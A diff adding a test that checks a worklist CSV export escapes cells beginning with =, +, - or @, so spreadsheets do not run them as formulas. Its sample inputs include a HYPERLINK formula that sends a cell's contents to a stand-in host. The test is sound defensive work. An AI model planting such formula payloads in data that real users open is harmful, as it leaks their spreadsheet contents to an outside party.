@@ -247,6 +247,34 @@ def test_the_worklist_comes_as_csv(api: Api, how: str) -> None:
     assert "worker_name" not in regulator.text.splitlines()[0]
 
 
+FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)"]
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_escaped(api: Api) -> None:
+    """Issue 23, item 8: a worker's name or claim number beginning with = + - @ was
+    exported as it stood, and a spreadsheet opening the worklist ran it as a formula.
+    Each such cell now starts with a quote (OWASP's CSV injection advice), and reads
+    back as the text it was."""
+    sent = []
+    for formula in FORMULAS:
+        pid = str(uuid4())
+        body = person(provider_id="clinic-north")
+        body["data"]["worker"]["name"] = formula
+        body["data"]["claim"]["claim_number"] = formula
+        api.post("north", pid, body)
+        api.post("north", pid, admitted())
+        sent.append(pid)
+    answer = api.get("payer", "/v1/worklist", params={"as_of": "2026-03-17", "format": "csv"})
+    assert answer.status_code == 200
+    rows = [r for r in csv.DictReader(io.StringIO(answer.text)) if r["program_id"] in sent]
+    assert {r["program_id"] for r in rows} == set(sent)
+    for row in rows:
+        for column in ("worker_name", "claim_number"):
+            cell = row[column]
+            assert cell[0] not in "=+-@", (column, cell)
+            assert cell.startswith("'") and cell[1:].replace("\\|", "|") in FORMULAS
+
+
 def regulator_answers(api: Api, who: str, pid: str) -> dict[str, str]:
     """Every answer about the program a key may get, as raw text."""
     got: dict[str, str] = {}
